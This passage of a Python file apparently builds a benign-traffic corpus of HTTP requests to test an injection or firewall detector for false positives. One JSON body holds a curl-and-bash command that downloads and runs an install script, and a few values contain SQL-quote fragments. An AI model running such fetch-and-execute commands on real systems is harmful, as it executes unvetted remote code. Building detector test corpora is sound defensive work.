    "10 > 5 or 2 < 3",
    "SELECT is a keyword; so is FROM",
    "Our union voted to select a new president",
    "what's the best script for a wedding toast?",
    "I'm from Dublin; my friend's from Cork",
    "curl up with a good book",
    "echo-friendly design",
    "email: john.o'brien@example.ie",
    "call 555-0100 ext. 12 or 1-800-FLOWERS",
    "rated 4.5/5 by 1,234 users",
    "C:\\Program Files\\App\\config.ini is the config path",
    "The user's (admin) password was reset",
    "dear [name], thank you for your order #12345",
    "New York & Co. - women's clothing",
    "Ben & Jerry's ice cream; Häagen-Dazs",
    "is it true or false = it depends",
    "Tickets: $25 (adults), $10 (kids)",
    "x' is the derivative",
    "<3 love it <3",
    "5 stars!!! <b>would recommend</b>",
    "if a < b and b < c then a < c",
    "the path /usr/local/bin is on my PATH",
    "download the .exe from the official site",
    "Robert'); is a famous xkcd joke",
    "1 OR 2 items per order",
    "pick one: (a) or (b)",
]
CODE_SNIPPETS = [
    "def add(a, b):\n    return a + b\n\nprint(add(1, 2))",
    "const user = await fetch('/api/user').then(r => r.json());\nconsole.log(user.name);",
    "SELECT id, name FROM customers WHERE country = 'DE' ORDER BY name;",
    "for (let i = 0; i < items.length; i++) {\n  total += items[i].price;\n}",
    "if (err) {\n  console.error('failed:', err.message);\n  return;\n}",
    "docker run -p 8080:80 nginx",
    "git commit -m 'fix: handle empty input'",
    "import os\npath = os.path.join(base, 'data.csv')",
    'public static void main(String[] args) { System.out.println("hi"); }',
    '#include <stdio.h>\nint main() { printf("%d\\n", 42); return 0; }',
    '<div class="card"><h2>Title</h2><p>Body text</p></div>',
    "npm install --save-dev typescript",
    "ls -la shows hidden files",
    "$ echo $PATH",
    "UPDATE settings SET theme = 'dark' WHERE user_id = 42;",
    "kubectl get pods -n production",
    'x := map[string]int{"a": 1}',
    "window.addEventListener('load', init);",
    "element.onclick = handleClick;",
    'raise ValueError(f"bad value: {value!r}")',
    "SELECT COUNT(*) FROM orders WHERE status = 'paid';",
    "INSERT INTO users (name) VALUES ('O''Brien');",
    'cursor.execute("SELECT * FROM users WHERE id = %s", (user_id,))',
    "const q = `SELECT name FROM t WHERE id = ${id}`;",
    'echo "Hello, $USER"',
    "curl -X POST https://api.example.com/v1/items -H 'Content-Type: application/json' -d '{\"name\":\"x\"}'",
    "$ curl https://example.com | jq .",
    "def __init__(self, name):\n    self.name = name",
    '<?xml version="1.0"?>\n<config><debug>true</debug></config>',
    "fetch(url).then(res => res.json())",
    '<button class="btn" type="submit">Save</button>',
    "while True:\n    time.sleep(5)",
    "SELECT u.name, COUNT(o.id) FROM users u LEFT JOIN orders o ON o.user_id = u.id GROUP BY u.name HAVING COUNT(o.id) > 5",
    "<template><div>{{ message }}</div></template>",
    "printf '%s\\n' \"$var\"",
    'String sql = "SELECT * FROM users WHERE name = ?";',
    "if (a && b || c) { run(); }",
    'System.out.println("Done");',
    "my_dict = {'key': 'value', 'other': 1}",
]
MARKDOWN = [
    "# Release notes\n\n* Fixed login bug\n* Added **dark mode**\n\n[Docs](https://docs.example.com)",
    "Great article! See `code` and ```python\nprint('hi')\n``` for details.",
    "> quoted text\n\n1. first\n2. second\n\n![diagram](/img/diagram.png)",
    "Use _emphasis_ and **strong**; tables:\n\n| a | b |\n|---|---|\n| 1 | 2 |",
]
HTML_COMMENTS = [
    "<p>Thanks for the <b>great</b> post!</p>",
    '<a href="https://example.com/docs">read the docs</a> for more',
    '<img src="https://cdn.example.com/cat.png" alt="my cat" width="200">',
    "<ul><li>one</li><li>two</li></ul>",
    "<blockquote>To be or not to be</blockquote>",
    "<code>SELECT 1;</code> returns one row",
    '<span style="color: red">warning</span>',
    "<h2>Update</h2><p>It works now &mdash; thanks!</p>",
    "<table><tr><td>1</td><td>2</td></tr></table>",
    "<i>italic</i> &amp; <u>underlined</u> &lt;tags&gt;",
]
NAMES = [
    "O'Brien",
    "D'Arcy",
    "Anne-Marie",
    "José Álvarez",
    "Zoë O'Malley",
    "Robert",
    "Ngũgĩ wa Thiong'o",
    "McDonald",
    "van der Berg",
    "Smith-Jones",
]
USER_AGENTS = [
    BROWSER_HEADERS[1][1],
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Mobile Safari/537.36",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "okhttp/4.12.0",
    "PostmanRuntime/7.37.3",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Wget/1.21.4",
    "python-httpx/0.28.1",
    "axios/1.6.8",
]
COOKIES = [
    "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000",
    "session=eyJ1c2VyIjoiamFuZSIsInJvbGUiOiJ1c2VyIn0.ZmF0Y2g.abc123; csrftoken=Xy7Gh2kLm9",
    "prefs=%7B%22theme%22%3A%22dark%22%2C%22lang%22%3A%22en%22%7D; consent=yes",
    "cart=3f2a9c; last_search=union%20station; tz=Europe%2FBerlin",
    "sid=s%3AaBcD1234.efGH5678; remember_me=1",
]
JWT = (
    "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4g"
    "RG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
)


def _benign_headers(index: int) -> list[tuple[str, str]]:
    headers = [h for h in BROWSER_HEADERS if h[0] != "User-Agent"]
    headers.append(("User-Agent", USER_AGENTS[index % len(USER_AGENTS)]))
    if index % 2 == 0:
        headers.append(("Cookie", COOKIES[index % len(COOKIES)]))
    if index % 3 == 0:
        headers.append(("Referer", "https://shop.example.com/search?q=union+station&page=2"))
    if index % 5 == 0:
        headers.append(("Authorization", JWT))
    if index % 7 == 0:
        headers.append(("If-None-Match", 'W/"5e8c-1a2b3c"'))
    if index % 11 == 0:
        headers.append(("X-Requested-With", "XMLHttpRequest"))
    if index % 13 == 0:
        headers.append(("Origin", "http://localhost:3000"))
    return headers


def benign_requests() -> Iterator[CorpusRequest]:
    index = 0
    pages = [
        "/",
        "/products/123",
        "/blog/2024/05/hello-world",
        "/static/app.3f2a9c.js",
        "/static/css/main.css?v=12",
        "/category/shoes/running?sort=price&order=asc",
        "/api/v1/users/42/orders?limit=20&offset=40",
        "/images/logo%20big.png",
        "/docs/getting-started#install",
        "/search?q=",
        "/account/settings",
        "/products/union-select-chair",
        "/blog/tag/c%2B%2B",
        "/cart?add=123&qty=2",
        "/wiki/O%27Brien_(surname)",
        "/help/how-to-use-curl",
        "/products?id=1&id=2&id=3",
        "/callback?code=4%2F0AX4XfWh&state=af0ifjsldkj&scope=email%20profile",
        "/login?next=%2Faccount%2Forders",
        "/redirect?url=https%3A%2F%2Fpartner.example.com%2Fpage",
        "/share?url=https://news.example.org/story/123&title=Big+news",
        "/api/search?filter[status]=open&filter[owner]=me&sort=-created_at",
        "/feed.xml",
        "/sitemap.xml",
        "/favicon.ico",
        "/robots.txt",
    ]
    for page in pages:
        yield CorpusRequest("page", "query", "", "GET", page, _benign_headers(index))
        index += 1
    texts = BENIGN_TEXTS + NAMES + MARKDOWN + HTML_COMMENTS + CODE_SNIPPETS
    for text in texts:
        headers = _benign_headers(index)
        # a search with the text (only single-line texts make sense in a query)
        if "\n" not in text:
            yield CorpusRequest(
                "search", "query", "", "GET", f"/search?q={quote_plus(text)}", headers, payload=text
            )
        # a JSON comment
        body = json.dumps(
            {
                "author": NAMES[index % len(NAMES)],
                "comment": text,
                "rating": index % 5,
                "tags": ["review", "2024"],
            }
        ).encode()
        yield CorpusRequest(
            "comment",
            "json",
            "",
            "POST",
            "/api/comments",
            [*headers, ("Content-Type", "application/json")],
            body,
            payload=text,
        )
        # a form post
        body = (
            f"name={quote_plus(NAMES[index % len(NAMES)])}&email=jane%40example.com"
            f"&message={quote_plus(text)}&subscribe=on"
        ).encode()
        yield CorpusRequest(
            "contact",
            "form",
            "",
            "POST",
            "/submit",
            [*headers, ("Content-Type", "application/x-www-form-urlencoded")],
            body,
            payload=text,
        )
        index += 1
    yield from _benign_structured(index)


def _benign_structured(index: int) -> Iterator[CorpusRequest]:
    boundary = "----WebKitFormBoundaryx8FjKQ2nYb"
    files = [
        ("report (final).pdf", "application/pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>"),
        ("O'Brien résumé.docx", "application/octet-stream", bytes(range(256))),
        ("photo.jpg", "image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(200)),
        ("notes.txt", "text/plain", b"Shopping list:\n- milk\n- eggs; bread & butter\n"),
        ("data.csv", "text/csv", b'id,name,comment\n1,O\'Brien,"select, union"\n'),
        ("script.py", "text/x-python", b"import sys\nprint(sys.argv)\n"),
    ]
    for name, ctype, content in files:
        body = (
            (
                f'--{boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\n'
                f'My upload: {name}\r\n--{boundary}\r\nContent-Disposition: form-data; name="file"; '
                f'filename="{name}"\r\nContent-Type: {ctype}\r\n\r\n'
            ).encode()
            + content
            + f"\r\n--{boundary}--\r\n".encode()
        )
        yield CorpusRequest(
            "upload",
            "multipart",
            "",
            "POST",
            "/upload",
            [
                *_benign_headers(index),
                ("Content-Type", f"multipart/form-data; boundary={boundary}"),
            ],
            body,
            payload=name,
        )
        index += 1
    xml_bodies = [
        '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.'
        'xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples &amp; Pears</Item>'
        "</GetPrice></soap:Body></soap:Envelope>",
        "<order><customer>O'Brien</customer><note>Leave at the door; ring twice</note>"
        '<total currency="EUR">19.99</total></order>',
        '<?xml version="1.0"?><rss version="2.0"><channel><title>News</title><item><title>'
        "Union members select new chair</title><link>https://news.example.org/1</link></item>"
        "</channel></rss>",
        "<note><to>Tove</to><from>Jani</from><heading>Reminder</heading><body>Don't forget me "
        "this weekend!</body></note>",
    ]
    for body_text in xml_bodies:
        yield CorpusRequest(
            "soap",
            "xml",
            "",
            "POST",
            "/api/orders",
            [*_benign_headers(index), ("Content-Type", "application/xml")],
            body_text.encode(),
            payload=body_text[:40],
        )
        index += 1
    graphql = [
        {
            "query": "query GetUser($id: ID!) { user(id: $id) { id name email orders(first: 10) "
            "{ edges { node { id total } } } } }",
            "variables": {"id": "42"},
        },
        {
            "query": 'mutation { addComment(postId: 7, body: "I\'d select this one or 1 other") '
            "{ id } }"
        },
        {"query": '{ search(term: "union station") { ... on Place { name } } }'},
    ]
    for document in graphql:
        yield CorpusRequest(
            "graphql",
            "json",
            "",
            "POST",
            "/graphql",
            [*_benign_headers(index), ("Content-Type", "application/json")],
            json.dumps(document).encode(),
            payload="graphql",
        )
        index += 1
    api_bodies = [
        {
            "name": "Seán O'Brien",
            "address": {"street": "12 Union St", "city": "Dublin"},
            "items": [{"sku": "A-1", "qty": 2}, {"sku": "B-7", "qty": 1}],
            "gift": False,
        },
        {
            "title": "Fix: select box loses focus",
            "body": "Steps:\n1. open page\n2. select an "
            "option or 1 of the presets\n3. echo the value\nExpected: stays focused",
            "labels": ["bug", "ui"],
        },
        {
            "settings": {"theme": "dark", "notifications": {"email": True, "sms": False}},
            "timezone": "America/New_York",
            "locale": "en-US",
        },
        {
            "snippet": {
                "language": "sql",
                "code": "SELECT u.id, u.name FROM users u JOIN orders o "
                "ON o.user_id = u.id WHERE o.total > 100 GROUP BY u.id;",
            }
        },
        {
            "snippet": {
                "language": "bash",
                "code": "curl -fsSL https://get.example.com -o install.sh && bash install.sh",
            }
        },
        {
            "snippet": {
                "language": "javascript",
                "code": "document.getElementById('btn').addEventListener('click', () => "
                "{ alert('Saved!'); });",
            }
        },
        {
            "avatar": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlE"
            "QVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
        },
        {"token": "dGhpcyBpcyBhIHRlc3QgdG9rZW4gZm9yIHRoZSBhcGk=", "expires_in": 3600},
        {
            "webhook": {
                "url": "https://hooks.example.com/services/T000/B000/XXXX",
                "events": ["order.created", "order.paid"],
            }
        },
        {"query": "price:[10 TO 100] AND brand:(acme OR globex)", "page": 2},
        {
            "message": "Meeting notes:\n- union negotiations\n- select vendors\n- echo the plan "
            "to the team\n\nThanks, O'Brien"
        },
        {"password": "P@ss'w0rd!;--", "username": "jane.doe"},
        {"description": "<p>Great <strong>product</strong>!</p><p>Would buy again.</p>"},
        {"regex": "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$", "name": "email validator"},
    ]
    for document in api_bodies:
        yield CorpusRequest(
            "api",
            "json",
            "",
            "POST",
            "/api/items",
            [*_benign_headers(index), ("Content-Type", "application/json")],
            json.dumps(document).encode(),
            payload=str(document)[:60],
        )
        index += 1
